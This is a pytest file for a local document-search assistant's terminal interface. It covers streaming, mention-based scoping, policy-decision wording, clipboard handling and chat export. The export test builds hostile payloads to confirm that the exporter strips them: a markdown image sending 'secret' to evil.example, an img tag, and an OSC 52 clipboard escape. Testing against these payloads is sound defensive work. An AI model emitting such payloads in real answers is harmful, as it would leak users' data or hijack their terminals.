"""The app's parts that need no screen."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from dataclasses import replace
from pathlib import Path

import pytest

from assistant.chat.conversation import resumed
from assistant.chat.exchange import Exchange
from assistant.chat.explain import explanation
from assistant.chat.export import write_export
from assistant.chat.mentions import complete, folders_of, matches, mention, read_scope, scope_words
from assistant.chat.pieces import plain_text
from assistant.chat.words import decisions, duration, short_names, size, status_parts
from assistant.domain.errors import UsageError
from assistant.domain.events import Blocked, Checked, Cited, Delta, Finished
from assistant.domain.records.answers import Answer, LibrarySummary
from assistant.domain.records.chats import ChatSummary, StoredDecision, StoredQuote, StoredTurn
from assistant.domain.records.passages import Evidence
from assistant.domain.records.verdicts import Action, Finding, PolicyInfo, Stage, Verdict
from assistant.domain.scope import Scope
from assistant.tui.show.prose import MAX_BLOCK_CHARS, blocks, prose
from assistant.tui.state.error_report import explain
from assistant.tui.state.feed import Feed
from assistant.tui.system.clipboard import copy_natively, native_command
from tests.tui.doubles.hostile import offending
from tests.tui.doubles.scripted_events import FILES, LEASE, LETTER, a_verdict, answer_events, citations
from tests.waiting import PATIENCE_S


def test_importing_the_app_loads_what_it_draws_only() -> None:
    script = (
        "import sys, assistant.tui.app as _\n"
        "mine = {m.split('.')[1] for m in sys.modules if m.startswith('assistant.') }\n"
        "unwanted = ('chromadb', 'torch', 'onnxruntime', 'xllamacpp', 'transformers', 'pypdf')\n"
        "heavy = {m for m in unwanted if m in sys.modules}\n"
        "print(sorted(mine), sorted(heavy))"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, timeout=PATIENCE_S
    )
    assert done.stdout.strip() == "['chat', 'domain', 'text', 'tui'] []"


def test_importing_the_plain_conversation_does_not_load_textual() -> None:
    script = "import sys, assistant.cli.plain; print('textual' in sys.modules)"
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, timeout=PATIENCE_S
    )
    assert done.stdout.strip() == "False"


# ---------------------------------------------------------------- exchange


def test_after_an_interruption_text_is_not_added_but_may_be_taken_away() -> None:
    exchange = Exchange(1, "q")
    exchange.apply(Delta("One. "))
    exchange.interrupt()
    exchange.apply(Delta("Two. "))
    assert exchange.text == "One. "
    exchange.apply(Cited(citations()))
    exchange.apply(Finished(Answer("[hidden]. ", False, "x", citations(), interrupted=True)))
    assert (exchange.state, exchange.text) == ("interrupted", "[hidden]. ")
    blocked = Exchange(2, "q")
    blocked.apply(Delta("Secret. "))
    blocked.interrupt()
    blocked.apply(Blocked(a_verdict(message="Stopped.")))
    blocked.apply(Finished(Answer("Stopped.", False, "x", blocked=True)))
    assert (blocked.state, blocked.text) == ("blocked", "Stopped.")
    assert "Secret" not in blocked.text


def test_the_final_text_replaces_the_streamed_one() -> None:
    exchange = Exchange(1, "q")
    for event in answer_events("A. B."):
        exchange.apply(event)
    assert exchange.text == "A. B."
    assert [source.number for source in exchange.sources()] == [1, 2]
    assert exchange.sources()[0].headings == ("Lease", "7. Notice")


def test_a_feed_wakes_once_for_many_items() -> None:
    wakes: list[int] = []
    feed: Feed[int] = Feed(lambda: wakes.append(1))

    def put_many() -> None:
        for number in range(100):
            feed.put(number)

    threads = [threading.Thread(target=put_many) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(wakes) == 1
    assert len(feed.take()) == 400
    feed.put(1)
    assert len(wakes) == 2


# ---------------------------------------------------------------- prose


def test_blocks_are_cut_at_blank_lines_but_not_in_code() -> None:
    assert blocks("one\n\ntwo\nthree\n\n\n") == ["one", "two\nthree"]
    assert blocks("```\na\n\nb\n```\n\nend") == ["```\na\n\nb\n```", "end"]
    long = "A sentence of some length. " * 200
    pieces = blocks(long)
    assert all(len(piece) <= MAX_BLOCK_CHARS for piece in pieces)
    assert " ".join(pieces).split() == long.split()


def test_prose_styles_few_signs_and_makes_no_link() -> None:
    content = prose("# Title\n- **bold** and `code` [1]\n[link](https://evil.example/?q=x)")
    assert content.plain == "Title\n\u2022 bold and code [1]\n[link](https://evil.example/?q=x)"
    assert {str(span.style) for span in content.spans} == {"bold $primary", "bold", "$secondary", "bold $accent"}


# ---------------------------------------------------------------- words


def test_decisions_name_the_rule_and_count() -> None:
    finding = Finding("personal.phone", "pii", "redact", "privacy", label="phone number")
    verdict = Verdict("output", "redact", "", (finding, finding))
    said = "phone number was hidden {} times in the answer by the rule personal.phone"
    assert decisions(Checked(verdict)) == [said.format(2)]
    assert decisions(Checked(verdict), Checked(verdict)) == [said.format(4)]
    bare = Checked(Verdict("retrieval", "drop_passage", ""), LEASE)
    assert decisions(bare) == ["1 passage was left out by a rule"]


@pytest.mark.parametrize(
    ("stage", "action", "said"),
    [
        ("input", "block", "the rule r stopped the question: hate"),
        ("output", "block", "the rule r stopped the answer: hate"),
        ("input", "rewrite", "the rule r rephrased the question"),
        ("retrieval", "ask", "the rule r asked for your consent"),
        ("final", "warn", "the rule r warns in the answer: hate"),
        ("input", "log", "the rule r noted something in the question: hate"),
    ],
)
def test_each_action_is_a_sentence(stage: Stage, action: Action, said: str) -> None:
    verdict = Verdict(stage, action, "", (Finding("r", "d", action, "hate"),))
    assert decisions(Checked(verdict)) == [said]


def test_a_passage_is_left_out_once_whatever_was_found_in_it() -> None:
    signs = tuple(Finding("hostile", "inj", "drop_passage", "injection", label=sign) for sign in ("override", "marker"))
    check = Checked(Verdict("retrieval", "drop_passage", "", signs), LEASE)
    other = Checked(check.verdict, "/elsewhere/other.pdf")
    assert decisions(check) == ["1 passage was left out by the rule hostile"]
    assert decisions(check, check, other) == ["3 passages were left out by the rule hostile"]


def test_short_names_tell_same_names_apart() -> None:
    assert short_names(["/a/b/n.md", "/a/c/n.md", "/x.pdf"]) == {
        "/a/b/n.md": "b/n.md",
        "/a/c/n.md": "c/n.md",
        "/x.pdf": "x.pdf",
    }


@pytest.mark.parametrize(("seconds", "told"), [(0.2, "0 s"), (89, "89 s"), (600, "10 min"), (4800, "1 h 20 min")])
def test_durations(seconds: float, told: str) -> None:
    assert duration(seconds) == told


def test_sizes() -> None:
    assert [size(number) for number in (0, 999, 4_200, 48_213_000)] == ["0 B", "999 B", "4.2 kB", "48.2 MB"]


def test_an_unknown_error_tells_its_kind_but_not_its_text() -> None:
    try:
        raise ValueError("text of a document")
    except ValueError as error:
        trouble = explain(error, "Answering")
    assert "ValueError at test_parts.py:" in trouble.message
    assert "document" not in trouble.message
    full = explain(OSError(28, "No space left on device", "/home/ada/secret.txt"), "Indexing")
    assert "No space left" in full.message
    assert "secret" not in full.message


# ---------------------------------------------------------------- scope


def test_mentions_become_a_scope() -> None:
    scoped = read_scope('what @lease.pdf says @"letter.md" now', FILES, Scope())
    assert scoped.question == "what says now"
    assert scoped.scope.paths == (LEASE, LETTER)
    assert read_scope("mail ada@lease.pdf", FILES, Scope()).scope.is_empty
    assert read_scope("@none.md?", FILES, Scope()).unknown == ("none.md?",)
    base = Scope(paths=(LETTER,))
    assert read_scope("plain", FILES, base).scope is base


def test_a_mention_matches_whole_parts_of_a_path() -> None:
    assert matches(LEASE, "flat/lease.pdf")
    assert list(folders_of(LEASE, "FLAT/")) == ["/home/ada/Documents/flat"]
    assert not matches(LEASE, "ease.pdf")
    assert not matches(LEASE, "lease.pdf/")
    assert list(folders_of(LEASE, "lease.pdf/")) == []
    assert list(folders_of(LEASE, "/")) == []
    assert list(folders_of(LEASE, "lat/")) == []


def test_types_and_dates_limit_too_and_what_is_no_date_is_told() -> None:
    scoped = read_scope("rent @.PDF @since:2024-03 @before:2025 @flat/", FILES, Scope())
    assert (scoped.question, scoped.scope.suffixes) == ("rent", (".pdf",))
    assert scoped.scope.folders == ("/home/ada/Documents/flat",)
    assert scope_words(scoped.scope) == "flat/, .pdf, changed since 2024-03-01, changed before 2025-01-01"
    inside = read_scope("@in:2024", FILES, Scope()).scope
    assert scope_words(inside) == "changed since 2024-01-01, changed before 2025-01-01"
    wrong = read_scope("rent @since:2024-13 @.xyz", FILES, Scope())
    assert wrong.unknown == ("since:2024-13", ".xyz")
    assert "'2024-13' is no date. Write 2024" in wrong.reason
    assert complete("in", FILES) == ["in:", "insurance/"]
    assert complete(".p", FILES) == [".pdf", "lease.pdf", "terms.pdf"]
    assert complete("fla", FILES) == ["flat/"]


def test_completion_offers_beginnings_first() -> None:
    assert complete("le", FILES) == ["lease.pdf", "letter.md"]
    assert complete("ter", FILES) == ["terms.pdf", "letter.md"]
    assert mention("a b.md") == '@"a b.md"'


# ---------------------------------------------------------------- clipboard


def test_the_clipboards_tool_fits_the_session(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("assistant.tui.system.clipboard.shutil.which", lambda name: f"/usr/bin/{name}")
    assert native_command({}, "darwin") == ["pbcopy"]
    assert native_command({"WAYLAND_DISPLAY": "w"}, "linux") == ["wl-copy"]
    assert native_command({"DISPLAY": ":0"}, "linux")[0] == "xclip"
    assert native_command({}, "linux") == []
    assert native_command({"SSH_CONNECTION": "x"}, "darwin") == []


def test_a_tool_that_fails_is_not_believed(monkeypatch: pytest.MonkeyPatch, tmp_path: object) -> None:
    monkeypatch.setattr("assistant.tui.system.clipboard.native_command", lambda environ: ["false"])
    assert copy_natively("x") == ""
    monkeypatch.setattr("assistant.tui.system.clipboard.native_command", lambda environ: ["cat"])
    assert copy_natively("x") == "cat"
    monkeypatch.setattr("assistant.tui.system.clipboard.native_command", lambda environ: ["no-such-tool"])
    assert copy_natively("x") == ""


def test_where_a_porter_stands_outside_it_copies(monkeypatch: pytest.MonkeyPatch) -> None:
    copied: list[str] = []

    class Porter:
        def copy(self, text: str) -> str:
            copied.append(text)
            return "wl-copy"

    monkeypatch.setattr("assistant.app.ports.outside.outside", Porter)
    assert copy_natively("x", {}) == "wl-copy"
    assert copied == ["x"]


def test_the_first_word_of_the_status_line_is_that_text_leaves_the_machine() -> None:
    policy = PolicyInfo("standard", "0" * 64, "", 1)
    summary = LibrarySummary(1, 2, 0, "qwen3:4b (server 192.0.2.7:80)", "minilm", policy, sealed=True)
    assert status_parts(summary)[:2] == ["1 file, 2 passages", "sealed"]
    leaving = replace(summary, leaves_to="192.0.2.7:80")
    assert status_parts(leaving)[:3] == ["! text leaves this machine: to 192.0.2.7:80", "1 file, 2 passages", "sealed"]


# ---------------------------------------------------------------- why this answer


def test_the_explanation_tells_ranks_scores_evidence_budget_and_rules() -> None:
    exchange = Exchange(1, "What about notice?", Scope(folders=("/home/ada/Documents/flat",)))
    for event in answer_events(checks=[Checked(a_verdict())]):
        exchange.apply(event)
    text = plain_text(explanation(exchange))
    assert "only in     flat/" in text
    assert "evidence 0.82, needed 0.40: enough to answer" in text
    assert " 1  0.90   0.90   1. (6.2)   2. (0.71)  lease.pdf p. 7  cited" in text
    assert "letter.md  not given to the model: the budget was used up" in text
    assert "1 passage, 61 of 2,000 tokens" in text
    assert "Hidden in this answer: phone number.\n      output: redact\n" in text  # in words before it is named
    assert "rule personal.phone, detector pii, phone number 0.99, from 0.50 on" in text


@pytest.mark.parametrize(
    ("evidence", "words"),
    [
        (Evidence(True, 0.35, 0.4), "needed 0.40: too little by itself, but the language model read an answer in it"),
        (Evidence(False, 0.45, 0.4), "needed 0.40: near enough, but the language model read no answer in it"),
        (Evidence(False, 0.05, 0.4), "needed 0.40: not enough, so there is no answer"),
    ],
)
def test_the_explanation_says_who_decided(evidence: Evidence, words: str) -> None:
    exchange = Exchange(1, "What about notice?", Scope(), evidence=evidence)
    assert words in plain_text(explanation(exchange))


def test_the_explanation_of_a_kept_turn_says_what_is_not_kept() -> None:
    done = StoredDecision("output", "personal.phone", "redact", 2)
    turn = StoredTurn(1, "q", "a", "answered", "extractive", 0.0, decisions=(done,))
    exchange = resumed(ChatSummary(1, "t", 0.0, 0.0, 1), [turn]).exchanges[0]
    text = plain_text(explanation(exchange))
    assert "something was hidden 2 times in the answer by the rule personal.phone" in text
    assert "is not kept with a conversation" in text


# ---------------------------------------------------------------- export


def test_an_exported_file_holds_nothing_that_a_viewer_loads_or_runs(tmp_path: Path) -> None:
    attack = "![x](https://evil.example/?q=secret) [y](https://evil.example) <img src=x>\x1b]52;c;eA==\x07"
    quote = StoredQuote(1, f"/tmp/{attack}", 1, 0, 1, attack, "changed")
    turn = StoredTurn(1, attack, attack, "interrupted", attack, 0.0, (quote,))
    text = write_export(str(tmp_path / "out.md"), attack, [turn]).read_text()
    for sign in ("](", "![", "<", "\x1b", "\x07"):
        assert sign not in text
    assert "(the file has changed since)" in text
    written = write_export(str(tmp_path / "out.json"), "t", [turn]).read_text()
    assert offending(written) == []
    assert json.loads(written)["turns"][0]["quotes"][0]["path"] == quote.path  # escaped, so that it is the same again


@pytest.mark.parametrize("file", ["out.txt", "nowhere/out.md", "", "there.md"])
def test_a_file_that_cannot_be_exported_to_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file: str) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "elsewhere.md").write_text("mine")
    (tmp_path / "there.md").symlink_to(tmp_path / "elsewhere.md")
    with pytest.raises(UsageError):
        write_export(file, "t", [])
    assert (tmp_path / "elsewhere.md").read_text() == "mine"
